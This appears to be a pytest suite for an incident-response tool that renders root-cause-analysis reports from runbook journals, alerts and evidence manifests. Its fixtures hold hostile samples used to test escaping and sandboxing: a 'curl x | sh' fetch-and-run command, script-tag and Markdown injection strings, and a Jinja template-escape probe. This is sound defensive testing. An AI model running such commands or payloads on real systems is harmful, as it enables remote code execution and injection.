"""The RCA draft from a hand-built incident: a runbook run that was stopped for approval and
resumed, a failed notify, a collect whose bundle manifest lists every file's sha256, a command
run by hand; hostile alert text that must stay inside its table cell."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from helpers import invoke
from typer.testing import Result

from irkit.engine.rca import build_rca, render_markdown, write_rca
from irkit.errors import ConfigError, NotFound
from irkit.incident.commands import command_events
from irkit.incident.paths import IncidentPaths
from irkit.model.evidence import Failure, Manifest, ManifestEntry
from irkit.model.journal import Change, CommandRecord, RunEvent
from irkit.render.markdown import md, mermaid
from irkit.render.rca_data import RcaData

INC = "inc-42"
HOSTILE = "web-0 | injected | <script>alert(1)</script>\nsecond line\r\n| x | y | `code`"
ALERTMANAGER = {
    "receiver": "irkit",
    "status": "firing",
    "alerts": [
        {
            "status": "firing",
            "labels": {
                "alertname": "CryptoMinerDetected",
                "severity": "critical",
                "namespace": "prod",
                "pod": HOSTILE,
            },
            "annotations": {"summary": "CPU pegged by xmrig: pool connection seen"},
            "startsAt": "2024-05-01T11:58:30Z",
        }
    ],
}
FALCO = {
    "rule": "Terminal shell in container",
    "priority": "Warning",
    "time": "2024-05-01T11:58:31.000000000Z",
    "output": f"A shell was spawned in a container (user=root {HOSTILE})",
    "output_fields": {"k8s.pod.name": "web-0", "proc.cmdline": "sh -c 'curl x | sh'"},
    "tags": ["container", "shell", "mitre_execution"],
    "hostname": "node-1",
    "source": "syscall",
}
FILES = {
    "logs/web-0/app.log": b"GET /healthz 200\nxmrig: connecting to pool\n",
    "state/pods.yaml": b"apiVersion: v1\nkind: Pod\nmetadata: {name: web-0}\n",
    "rbac/exposure.json": b'{"serviceAccount": "web", "canGetSecrets": true}\n',
}
TARBALL_SHA = hashlib.sha256(b"pretend tarball").hexdigest()
UNDO = [
    "irkit release deployment/web -n prod -i inc-42",
    "irkit restore deployment/web -n prod -i inc-42",
    "irkit uncordon node-1",
    "kubectl label pod/web-0 -n prod irkit.io/compromised-",
    "irkit release pod/db-0 -n prod -i inc-42",
]


def t(second: float) -> str:
    """Journal time of the fixture: 2024-05-01 12:00 plus ``second``."""
    return f"2024-05-01T12:{int(second) // 60:02d}:{second % 60:09.6f}Z"


def shown(second: float) -> str:
    """The same time as the document shows it."""
    return f"2024-05-01 12:{int(second) // 60:02d}:{second % 60:06.3f}Z"


def write_bundle(paths: IncidentPaths) -> Path:
    folder = paths.evidence / f"irkit-evidence-{INC}-20240501T120002Z"
    entries = []
    for rel, data in FILES.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
        digest = hashlib.sha256(data).hexdigest()
        entries.append(ManifestEntry(rel, len(data), digest, f"/api/{rel}", t(3)))
    failure = Failure("logs/web-1/app.log", "/api/v1/namespaces/prod/pods/web-1/log", "forbidden")
    manifest = Manifest(folder.name, INC, t(2), tuple(entries), (failure,))
    manifest_bytes = json.dumps(manifest.to_json(), indent=2).encode()
    (folder / "manifest.json").write_bytes(manifest_bytes)
    custody = {
        "format": "irkit-custody/v1",
        "collector": {"cluster_user": "alice", "hostname": "ir-laptop"},
        "status": "partial",
        "manifest_sha256": hashlib.sha256(manifest_bytes).hexdigest(),
    }
    (folder / "custody.json").write_text(json.dumps(custody))
    tarball = folder.parent / f"{folder.name}.tar.gz"
    tarball.write_bytes(b"pretend tarball")
    (folder.parent / f"{tarball.name}.sha256").write_text(f"{TARBALL_SHA}  {tarball.name}\n")
    return folder


def events(alert: dict[str, Any], bundle: Path) -> list[RunEvent]:
    prod_web = {"namespace": "prod", "target": "deployment/web"}
    book = {"name": "compromised-pod", "path": "runbooks/compromised-pod.yaml", "sha256": "ab" * 32}
    start = {"runbook": book, "params": {"namespace": "prod"}, "alert": alert, "actor": "alice"}
    policy = "irkit-quarantine-deployment-web"
    quarantined = {"labels": {"app": "web", "irkit.io/quarantine": INC}}
    compromised = {"labels": {**quarantined["labels"], "irkit.io/compromised": "true"}}
    collect_out = {
        "bundle": str(bundle),
        "tarball": f"{bundle}.tar.gz",
        "sha256": TARBALL_SHA,
        "uri": f"s3://ir-evidence/{INC}/{bundle.name}.tar.gz",
        "files": 3,
    }
    return [
        RunEvent("run-start", INC, data=start, time=t(0.1)),
        RunEvent("step-start", INC, "isolate", "isolate", data={"with": prod_web}, time=t(0.2)),
        RunEvent(
            "step-end",
            INC,
            "isolate",
            "isolate",
            "ok",
            data={"outputs": {"policy": policy, "pods": ["web-0"]}},
            changes=[
                Change("create", "NetworkPolicy", "prod", policy, None, {"spec": {}}),
                Change("patch", "Pod", "prod", "web-0", {"labels": {"app": "web"}}, quarantined),
            ],
            time=t(1.3),
        ),
        RunEvent("step-start", INC, "collect", "collect", data={"with": prod_web}, time=t(1.4)),
        RunEvent(
            "step-end", INC, "collect", "collect", "ok", data={"outputs": collect_out}, time=t(4)
        ),
        RunEvent("step-start", INC, "notify", "notify", data={"attempt": 1}, time=t(4.5)),
        RunEvent(
            "step-end",
            INC,
            "notify",
            "notify",
            "failed",
            error="slack webhook answered 500 Internal Server Error",
            time=t(5),
        ),
        RunEvent(
            "step-start",
            INC,
            "mark",
            "label",
            data={"with": {**prod_web, "set": {"irkit.io/compromised": "true"}}},
            time=t(5.5),
        ),
        RunEvent(
            "step-end",
            INC,
            "mark",
            "label",
            "ok",
            changes=[Change("patch", "Pod", "prod", "web-0", quarantined, compromised)],
            time=t(6),
        ),
        RunEvent(
            "step-start", INC, "cordon", "cordon", data={"with": {"node": "node-1"}}, time=t(6.5)
        ),
        RunEvent(
            "step-end",
            INC,
            "cordon",
            "cordon",
            "ok",
            changes=[
                Change(
                    "patch", "Node", "", "node-1", {"unschedulable": None}, {"unschedulable": True}
                )
            ],
            time=t(7),
        ),
        RunEvent("step-end", INC, "scale_down", "scale", "awaiting-approval", time=t(7.5)),
        RunEvent("run-end", INC, status="stopped", time=t(8)),
        RunEvent("run-start", INC, data={**start, "actor": "bob"}, time=t(90)),
        RunEvent(
            "step-start",
            INC,
            "scale_down",
            "scale",
            data={"with": {**prod_web, "replicas": 0}, "approval": {"by": "bob", "how": "--yes"}},
            time=t(90.5),
        ),
        RunEvent(
            "step-end",
            INC,
            "scale_down",
            "scale",
            "ok",
            changes=[
                Change("patch", "Deployment", "prod", "web", {"replicas": 3}, {"replicas": 0})
            ],
            time=t(92),
        ),
        RunEvent("step-start", INC, "rca", "rca", time=t(93)),
        RunEvent("step-end", INC, "rca", "rca", "ok", data={"outputs": {"path": "x"}}, time=t(94)),
        RunEvent("run-end", INC, status="completed", time=t(95)),
    ]


def commands() -> list[CommandRecord]:
    db_labels = {"labels": {"app": "db", "irkit.io/quarantine": INC}}
    return [
        CommandRecord(
            "isolate",
            "carol",
            "pod/db-0 -n prod",
            "ok",
            incident=INC,
            changes=[Change("patch", "Pod", "prod", "db-0", {"labels": {"app": "db"}}, db_labels)],
            time=t(60),
        ),
        CommandRecord("isolate", "dave", "pod/other -n prod", "ok", incident="inc-7", time=t(61)),
    ]


Incident = Callable[..., IncidentPaths]


@pytest.fixture
def incident(tmp_path: Path) -> Incident:
    def make(alert: dict[str, Any] = ALERTMANAGER) -> IncidentPaths:
        paths = IncidentPaths.of(INC, tmp_path / "incidents")
        paths.root.mkdir(parents=True)
        bundle = write_bundle(paths)
        lines = [json.dumps(e.to_json()) for e in events(alert, bundle)]
        paths.journal.write_text("\n".join(lines) + "\n")
        (tmp_path / "irkit-journal.jsonl").write_text(
            "".join(json.dumps(e.to_json()) + "\n" for c in commands() for e in command_events(c))
        )
        return paths

    return make


def document(paths: IncidentPaths, template: Path | None = None) -> str:
    data = build_rca(paths, command_journal=paths.root.parent.parent / "irkit-journal.jsonl")
    return render_markdown(data, template)


def cells(line: str) -> list[str]:
    """A GFM table row split as cmark-gfm does: a backslash escapes the next character."""
    out, cur, i = [], "", 0
    while i < len(line):
        if line[i] == "\\":
            cur += line[i : i + 2]
            i += 2
            continue
        if line[i] == "|":
            out.append(cur)
            cur = ""
        else:
            cur += line[i]
        i += 1
    out.append(cur)
    return [c.strip() for c in out[1:-1]]


def tables(doc: str) -> list[list[list[str]]]:
    found: list[list[list[str]]] = []
    rows: list[list[str]] = []
    for line in [*doc.splitlines(), ""]:
        if line.startswith("|"):
            rows.append(cells(line))
        elif rows:
            found.append(rows)
            rows = []
    return found


def section(doc: str, heading: str) -> str:
    start = doc.index(f"\n## {heading}\n")
    end = doc.find("\n## ", start + 1)
    return doc[start : end if end > 0 else None]


# ---- the document ----------------------------------------------------------------------------
def test_timeline_has_every_event_of_both_journals_in_order(incident: Incident) -> None:
    paths = incident()
    doc = document(paths)
    (table,) = tables(section(doc, "Timeline"))
    recorded = [(e.time, e.step) for e in events(ALERTMANAGER, Path("b"))]
    recorded.append((t(60), ""))  # carol's isolate from the command journal; inc-7's is not ours
    recorded.sort()
    expected = [[f"{time[:10]} {time[11:23]}Z", step] for time, step in recorded]
    assert [[row[0], row[2]] for row in table[2:]] == expected
    assert table[0] == ["time (UTC)", "event", "step", "action", "status", "detail"]
    assert "pod/other" not in doc
    carol = next(row for row in table if row[0] == shown(60))
    assert carol[1:5] == ["command", "", "isolate", "ok"]


def test_summary_detection_and_failed_step(incident: Incident) -> None:
    doc = document(incident())
    summary = dict((row[0], row[1]) for row in tables(section(doc, "Summary"))[0][2:])
    assert summary["Runbook"] == "compromised-pod (runbooks/compromised-pod.yaml)"
    assert summary["Severity"] == "critical"
    assert summary["Status"] == "completed"
    assert summary["Started (UTC)"] == shown(0.1)
    assert summary["Ended (UTC)"] == shown(95)
    assert summary["Actor"] == "alice, bob, carol"
    assert "- 2024-05-01 12:00:05.000Z notify (notify): slack webhook answered 500" in doc
    detection = section(doc, "Detection")
    assert "CPU pegged by xmrig: pool connection seen" in detection
    assert "| label alertname | CryptoMinerDetected |" in detection
    approved = next(r for r in tables(section(doc, "Timeline"))[0] if r[0] == shown(90.5))
    assert "approved by bob (--yes)" in approved[5]


def test_falco_alert_fills_detection(incident: Incident) -> None:
    doc = document(incident(FALCO))
    detection = section(doc, "Detection")
    rows = dict((r[0], r[1]) for r in tables(detection)[0][2:])
    assert rows["rule"] == "Terminal shell in container"
    assert rows["priority"] == "Warning"
    assert rows["tags"] == "container, shell, mitre_execution"
    assert rows["field proc.cmdline"] == "sh -c 'curl x \\| sh'"
    assert "| Detection | falco: Terminal shell in container |" in doc
    assert "<script>" not in doc


def test_evidence_lists_the_tarball_and_every_file_hash(incident: Incident) -> None:
    paths = incident()
    evidence = section(document(paths), "Evidence")
    assert f"| tarball sha256 | `{TARBALL_SHA}` |" in evidence
    assert f"| stored at | `s3://ir-evidence/{INC}/" in evidence
    details = evidence[evidence.index("<details>") : evidence.index("</details>")]
    for rel, data in FILES.items():
        assert f"| {rel} | {len(data)} | `{hashlib.sha256(data).hexdigest()}` |" in details
    assert "| logs/web-1/app.log | /api/v1/namespaces/prod/pods/web-1/log | forbidden |" in evidence
    assert "Problems with this bundle" not in evidence
    assert evidence.count("### Bundle ") == 1  # recorded by collect and found on disk: once


def test_a_tampered_manifest_is_reported(incident: Incident) -> None:
    paths = incident()
    manifest = next(paths.evidence.glob("*/manifest.json"))
    manifest.write_text(manifest.read_text().replace('"size": ', '"size":  '))
    evidence = section(document(paths), "Evidence")
    assert "Problems with this bundle" in evidence
    assert "but custody.json records" in evidence


def test_containment_has_the_command_that_undoes_each(incident: Incident) -> None:
    doc = document(incident())
    containment = section(doc, "Containment actions")
    (table,) = tables(containment)
    undo = {row[1]: row[5] for row in table[2:]}
    assert undo == {
        "isolate": f"`{UNDO[0]}`",
        "scale_down": f"`{UNDO[1]}`",
        "cordon": f"`{UNDO[2]}`",
        "mark": f"`{UNDO[3]}`",
        "irkit isolate": f"`{UNDO[4]}`",
    }
    block = containment[containment.index("```sh\n") + 6 : containment.rindex("\n```")]
    assert block.splitlines() == [UNDO[1], UNDO[4], UNDO[2], UNDO[3], UNDO[0]]  # latest first
    affected = section(doc, "Affected objects")
    assert "| Deployment | prod | web | replicas: 3 → 0 |" in affected
    assert "| Pod | prod | web-0 | labels: +irkit.io/quarantine=inc-42 |" in affected


def test_recovery_sections_checklist_and_mermaid(incident: Incident) -> None:
    doc = document(incident())
    headings = re.findall(r"^## (.+)$", doc, flags=re.MULTILINE)
    assert headings[-5:] == [
        "Root Cause Analysis",
        "Remediation",
        "Validation",
        "Documentation",
        "Quarterly review checklist",
    ]
    checklist = section(doc, "Quarterly review checklist")
    for item in (
        "RBAC review",
        "Network policies review",
        "Secrets rotation",
        "Image vulnerability scanning",
        "CIS Kubernetes Benchmark",
    ):
        assert re.search(rf"^- \[ \] .*{item}", checklist, flags=re.MULTILINE), item
    chart = doc[doc.index("```mermaid\n") : doc.index("```", doc.index("```mermaid\n") + 3)]
    lines = chart.splitlines()
    assert lines[1] == "timeline"
    assert "    section 2024-05-01" in lines
    events_shown = [line for line in lines if " : " in line]
    assert len(events_shown) == len(events(ALERTMANAGER, Path("b"))) + 1
    assert events_shown[0] == "        12\u223600\u223600 : run-start"
    assert all(line.count(":") == 1 for line in events_shown)


# ---- hostile text ----------------------------------------------------------------------------
def test_hostile_alert_text_stays_in_its_cell(incident: Incident) -> None:
    paths = incident()
    doc = document(paths)
    assert "<script>" not in doc
    for table in tables(doc):
        widths = {len(row) for row in table}
        assert widths == {len(table[0])}, table
    detection = tables(section(doc, "Detection"))[0]
    (pod,) = [row for row in detection if row[0] == "label pod"]
    assert pod[1].startswith("web-0 \\| injected \\| &lt;script&gt;")
    assert "<br>second line<br>\\| x \\| y \\|" in pod[1]


def test_hostile_journal_fields_do_not_break_tables_or_the_chart(incident: Incident) -> None:
    paths = incident()
    evil = RunEvent(
        "step-end",
        INC,
        "x: y\n`z` | w",
        "isolate",
        "ok\n## Pwned",
        changes=[
            Change("patch", "Pod", "prod", "a|b\n| c", {"labels": {}}, {"labels": {"k": "|"}})
        ],
        time=t(96),
    )
    with paths.journal.open("a") as f:
        f.write(json.dumps(evil.to_json()) + "\n")
    doc = document(paths)
    assert "\n## Pwned" not in doc
    for table in tables(doc):
        assert {len(row) for row in table} == {len(table[0])}, table
    chart = doc[doc.index("```mermaid\n") : doc.index("```", doc.index("```mermaid\n") + 3)]
    assert all(line.count(":") == 1 for line in chart.splitlines() if " : " in line)
    assert "x\u2236 y" in chart


def test_filters_escape_what_would_break_markdown_or_mermaid() -> None:
    assert md("a|b`c<d>e\\f\ng") == "a\\|b\\`c&lt;d&gt;e\\\\f<br>g"
    assert (
        mermaid("09:30 start: x\nnext # y; z") == "09\u223630 start\u2236 x next \uff03 y\uff1b z"
    )


def test_a_torn_last_line_is_noted_not_fatal(incident: Incident) -> None:
    paths = incident()
    with paths.journal.open("a") as f:
        f.write('{"event": "step-st')
    data = build_rca(paths)
    assert data.status == "completed"
    assert len(data.notes) == 1 and "journal.jsonl:20: not a journal line" in data.notes[0]


# ---- templates, files, json ------------------------------------------------------------------
def test_template_override_runs_sandboxed(incident: Incident, tmp_path: Path) -> None:
    paths = incident()
    ours = tmp_path / "ours.md.j2"
    ours.write_text("# {{ rca.incident }}\n{% for r in rca.timeline %}{{ r.step|md }},{% endfor %}")
    assert document(paths, ours).startswith("# inc-42\n,isolate,isolate,collect,")
    ours.write_text("{{ rca.__class__.__init__.__globals__ }}")
    with pytest.raises(ConfigError, match=r"ours.md.j2: template failed"):
        document(paths, ours)
    ours.write_text("line one\n{% for %}")
    with pytest.raises(ConfigError, match=r"ours.md.j2:2: template syntax error"):
        document(paths, ours)


def test_write_rca_writes_the_incident_document(incident: Incident) -> None:
    paths = incident()
    path = write_rca(paths, command_journal=paths.root.parent.parent / "irkit-journal.jsonl")
    assert path == paths.rca
    text = path.read_text()
    assert text.startswith("# Incident inc-42: CryptoMinerDetected\n")
    assert f"`{UNDO[4]}`" in text
    assert [p.name for p in paths.root.iterdir() if p.name.startswith(".")] == []


def test_json_round_trips(incident: Incident) -> None:
    paths = incident()
    data = build_rca(paths, clock=lambda: datetime(2024, 5, 2, tzinfo=UTC))
    raw = json.loads(json.dumps(data.to_json()))
    assert raw["format"] == "irkit-rca/v1"
    again = RcaData.from_json(raw)
    assert again == data
    assert (
        again.evidence[0].files[0].sha256 == hashlib.sha256(FILES["logs/web-0/app.log"]).hexdigest()
    )


def test_unknown_incident_is_not_found(tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="no folder"):
        build_rca(IncidentPaths.of("inc-404", tmp_path))


# ---- the command -----------------------------------------------------------------------------
def irkit(tmp_path: Path, *args: str) -> Result:
    argv = ["rca", "--incidents-dir", str(tmp_path / "incidents")]
    argv += ["--journal", str(tmp_path / "irkit-journal.jsonl"), *args]
    return invoke(*argv)


def test_cli_writes_rca_md(incident: Incident, tmp_path: Path) -> None:
    paths = incident()
    result = irkit(tmp_path, "-i", INC)
    assert result.exit_code == 0, result.output
    assert str(paths.rca) in result.output
    assert f"`{UNDO[4]}`" in paths.rca.read_text()  # the command journal was read


def test_cli_json_round_trips(incident: Incident, tmp_path: Path) -> None:
    paths = incident()
    result = irkit(tmp_path, "-i", INC, "-o", "json")
    assert result.exit_code == 0, result.output
    raw = json.loads(result.stdout)
    data = RcaData.from_json(raw)
    assert data.to_json() == raw
    expected = build_rca(paths, command_journal=tmp_path / "irkit-journal.jsonl")
    assert dataclasses.replace(data, generated_at=expected.generated_at) == expected
    assert not paths.rca.exists()


def test_cli_template_and_out(incident: Incident, tmp_path: Path) -> None:
    incident()
    ours = tmp_path / "t.j2"
    ours.write_text("{{ rca.incident }}: {{ rca.evidence|length }} bundle(s)\n")
    result = irkit(tmp_path, "-i", INC, "--template", str(ours), "--out", "-")
    assert result.exit_code == 0, result.output
    assert result.stdout == "inc-42: 1 bundle(s)\n"


def test_cli_unknown_incident_exits_4(tmp_path: Path) -> None:
    result = irkit(tmp_path, "-i", "inc-404")
    assert result.exit_code == 4, result.output
    assert "incidents/inc-404" in result.output


def test_cli_reads_the_incidents_dir_irkit_run_uses(incident: Incident, tmp_path: Path) -> None:
    paths = incident()  # in tmp_path/incidents, which the command is not told
    argv = ["rca", "-i", INC, "--journal", str(tmp_path / "irkit-journal.jsonl")]
    result = invoke(*argv, env={"IRKIT_RUN_INCIDENTS_DIR": str(paths.root.parent)})
    assert result.exit_code == 0, result.output
    assert paths.rca.is_file()


def test_changes_journaled_as_they_happen_count_once_and_survive_a_crash(tmp_path: Path) -> None:
    paths = IncidentPaths.of("inc-crash", tmp_path / "incidents")
    paths.root.mkdir(parents=True)
    scaled = Change("patch", "Deployment", "prod", "api", {"replicas": 3}, {"replicas": 0})
    policy = Change("create", "NetworkPolicy", "prod", "irkit-quarantine-deployment-api", None, {})
    events = [
        RunEvent("run-start", "inc-crash", data={"runbook": {"name": "rb"}}),
        RunEvent("step-start", "inc-crash", step="iso", action="isolate"),
        RunEvent("step-change", "inc-crash", step="iso", action="isolate", changes=[policy]),
        RunEvent(
            "step-end", "inc-crash", step="iso", action="isolate", status="ok", changes=[policy]
        ),
        RunEvent("step-start", "inc-crash", step="down", action="scale"),
        # the process died here: the scale happened, no step-end was written
        RunEvent("step-change", "inc-crash", step="down", action="scale", changes=[scaled]),
    ]
    paths.journal.write_text("".join(json.dumps(e.to_json()) + "\n" for e in events))
    data = build_rca(paths)
    names = [a.name for a in data.affected]
    assert names.count("irkit-quarantine-deployment-api") == 1  # not twice (change + step-end)
    assert "api" in names  # the crashed step's change is there
    doc = render_markdown(data)
    assert "replicas: 3 → 0" in doc or "3 → 0" in doc
